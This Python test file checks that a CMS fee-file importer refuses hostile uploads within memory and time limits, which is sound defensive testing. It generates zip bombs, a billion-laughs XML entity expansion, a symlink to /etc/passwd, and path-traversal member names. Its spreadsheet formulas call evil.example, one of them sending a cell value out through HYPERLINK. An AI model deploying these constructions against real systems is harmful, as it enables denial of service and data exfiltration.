"""Files that somebody made to do harm: refused with a clear word, within measured bounds of memory and time."""

import io
import json
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import psutil
import pytest
import xlsxwriter

from tests import making
from tests.codes.importing.test_killed_jobs import END, Browser
from tests.working import ROOT, kill_all, start_server

NAME = "PPRRVU2026_Jan_nonQPP.csv"
CSV = making.pprrvu_csv([making.row("20610", work_rvu="0.77")])
XLSX_NAME = "PPRRVU2026_Jan_nonQPP.xlsx"
# What a process may take more than a bare one, in MB. The worst of these take 190.
MOST_MB = 250
MOST_SECONDS = 60


def read(path, name=None):
    """How a process of its own fares with the file."""
    command = [sys.executable, "-m", "tests.codes.importing.hostile_reader", str(path), name or path.name]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=MOST_SECONDS, check=False)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    sys.stdout.write(f"{path.name}: {answer['peak_mb']:.0f} MB, {answer['seconds']:.2f} s, {answer['error'][:100]}\n")
    assert answer["peak_mb"] < MOST_MB
    return answer


def zip_with(path, *members, compression=zipfile.ZIP_DEFLATED):
    with zipfile.ZipFile(path, "w", compression) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return path


def zip_bomb(path):
    """A gigabyte of zeros in a megabyte, as the file that is read."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive, archive.open(NAME, "w") as member:
        for _ in range(1024):
            member.write(bytes(1024 * 1024))
    return path


def bombs_together(path):
    """Each file within its bound, all of them not."""
    names = (NAME, "PPRRVU2026_Jan_QPP.csv", "GPCI2026.csv", "ANES2026.csv", "26LOCCO.csv", "OPPSCAP_JAN.csv")
    return zip_with(path, *((name, bytes(31 * 1024 * 1024)) for name in names))


def bomb_that_lies(path):
    """A bomb whose header announces ten bytes."""
    data = bytearray(zip_bomb(path).read_bytes())
    start = data.index(b"PK\x01\x02") + 24
    data[start : start + 4] = (10).to_bytes(4, "little")
    path.write_bytes(bytes(data))
    return path


def encrypted(path):
    data = bytearray(zip_with(path, (NAME, CSV)).read_bytes())
    data[6] |= 1
    data[data.index(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(bytes(data))
    return path


def names_that_are_no_utf8(path):
    """The name says UTF-8 and is not."""
    data = zip_with(path, ("PPRRVUé26_Jan_nonQPP.csv", CSV)).read_bytes()
    path.write_bytes(data.replace("é".encode(), b"\xff\xfe"))
    return path


def link(path):
    info = zipfile.ZipInfo(NAME)
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return zip_with(path, (info, "/etc/passwd"))


def nested(path):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(NAME, CSV)
    return zip_with(path, ("inner.zip", stream.getvalue()))


def twice(path):
    with pytest.warns(UserWarning, match="Duplicate name"):
        return zip_with(path, (NAME, CSV), (NAME, CSV))


def zeros(path):
    """A gigabyte of zeros that takes no room on the disk."""
    with path.open("wb") as file:
        file.truncate(1024**3)
    return path


def wrong_rows(path):
    """As many bytes as one file may have, every row of it wrong."""
    line = (b"9x,,A,?" + b"," * 28 + b"\r\n") * 1000
    return zip_with(path, (NAME, CSV + line * (31 * 1024 * 1024 // len(line))))


def no_rows(path):
    """A line a byte, and no header among them."""
    return zip_with(path, (NAME, b"1\n" * (15 * 1024 * 1024)))


def one_cell(path):
    """One cell as long as a file may be."""
    return zip_with(path, (NAME, b'"' + b"x" * (31 * 1024 * 1024)))


def picture(path):
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(1000))
    return path


def sheet_bomb(path):
    """A spreadsheet whose sheet is a gigabyte of spaces."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as member:
            for _ in range(1024):
                member.write(b" " * 1024 * 1024)
    return path


def laughing_sheet(path):
    """Entities that grow a thousand million times when they are replaced."""
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    data = making.xlsx_bytes(making.pprrvu_cells([making.row("20610")]))
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(path, "w") as archive:
        for info in source.infolist():
            text = source.read(info)
            if info.filename == "xl/sharedStrings.xml":
                text = text.replace(b"<sst", f"<!DOCTYPE sst [{entities}]><sst".encode(), 1)
                text = text.replace(b"<t>20610</t>", b"<t>&a9;</t>", 1)
            archive.writestr(info, text)
    return path


HOSTILE = [
    (zip_bomb, "rvu26a.zip", "is larger than 32 MB uncompressed"),
    (bombs_together, "rvu26a.zip", "the files in it exceed 100 MB uncompressed"),
    (bomb_that_lies, "rvu26a.zip", "is damaged or truncated"),
    (encrypted, "rvu26a.zip", "is encrypted"),
    (names_that_are_no_utf8, "rvu26a.zip", "is not a readable zip file"),
    (link, "rvu26a.zip", "is a symbolic link, which is not followed"),
    (nested, "rvu26a.zip", "found: inner.zip (a zip inside a zip is not opened)"),
    (twice, "rvu26a.zip", "has two members with the same name"),
    (
        lambda path: zip_with(path, (f"../{NAME}", CSV)),
        "rvu26a.zip",
        "a member name that points outside the archive",
    ),
    (
        lambda path: zip_with(path, (f"C:\\{NAME}", CSV)),
        "rvu26a.zip",
        "a member name that points outside the archive",
    ),
    (lambda path: zip_with(path, *((f"{n}.txt", "") for n in range(10_000))), "rvu26a.zip", "has 10000 members"),
    (lambda path: zip_with(path, *((f"{n}.txt", "") for n in range(25_000))), "rvu26a.zip", "more than 500 members"),
    (zeros, "rvu26a.zip", "is larger than 100 MB"),
    (zeros, NAME, "is larger than 100 MB"),
    (zeros, XLSX_NAME, "is larger than 100 MB"),
    (wrong_rows, "rvu26a.zip", "more problems"),
    (no_rows, "rvu26a.zip", "has no header row"),
    (one_cell, "rvu26a.zip", "can't be read as CSV"),
    (picture, "rvu26a.zip", "is not a readable zip file"),
    (picture, NAME, "has NUL bytes"),
    (picture, "scan.png", "is not a file of a CMS release"),
    (sheet_bomb, XLSX_NAME, "is larger than 32 MB uncompressed"),
    (laughing_sheet, XLSX_NAME, ""),
]


@pytest.mark.parametrize(("make", "name", "words"), HOSTILE)
def test_a_hostile_file_is_refused_within_bounds(tmp_path, make, name, words):
    answer = read(make(tmp_path / name))
    assert answer["error"]
    assert words in answer["error"]
    assert re.match(r"(rvu26a|PPRRVU|scan)", answer["error"])


def test_a_spreadsheet_gives_its_values_and_runs_nothing(tmp_path):
    """Formulas and links to other books stand beside the values that the person who saved it saw."""
    path = tmp_path / XLSX_NAME
    cells = making.pprrvu_cells([making.row("20610", work_rvu="0.77"), making.row("27447", work_rvu="19.11")])
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        for line, row in enumerate(cells):
            for column, cell in enumerate(row):
                if line >= making.HEADER_ROWS and cell == "0.77":
                    sheet.write_formula(line, column, "='[http://evil.example/a.xlsx]S'!A1", value=0.77)
                elif line >= making.HEADER_ROWS and cell == "19.11":
                    sheet.write_formula(line, column, '=HYPERLINK("http://evil.example/?"&A1)', value=19.11)
                elif cell:
                    sheet.write(line, column, cell)
    answer = read(path)
    assert (answer["error"], answer["rows"]) == ("", [["20610", "0.77"], ["27447", "19.11"]])


@pytest.mark.django_db(transaction=True)
def test_a_server_that_is_sent_too_much_stays_small(staging, rosa):
    """Three hundred megabytes are read to their end, so that the browser shows why; none of it stays in memory."""
    browser = Browser(rosa)
    server, port = start_server()
    try:
        asked = browser.begin_upload(port, b"", announced=300 * 1024 * 1024)
        for _ in range(300):
            asked.send(bytes(1024 * 1024))
        asked.send(END)
        response = asked.getresponse()
        assert (response.status, b"The file is larger than 100 MB" in response.read()) == (413, True)
        asked.close()
        assert list(staging.iterdir()) == []
        assert max(_peak_mb(pid) for pid in _family(server.pid)) < 250
    finally:
        kill_all(server)


def _family(pid):
    return [child.pid for child in psutil.Process(pid).children(recursive=True)]


def _peak_mb(pid):
    """The most memory a process has had (Linux)."""
    (line,) = [line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith("VmHWM")]
    return int(line.split()[1]) / 1024
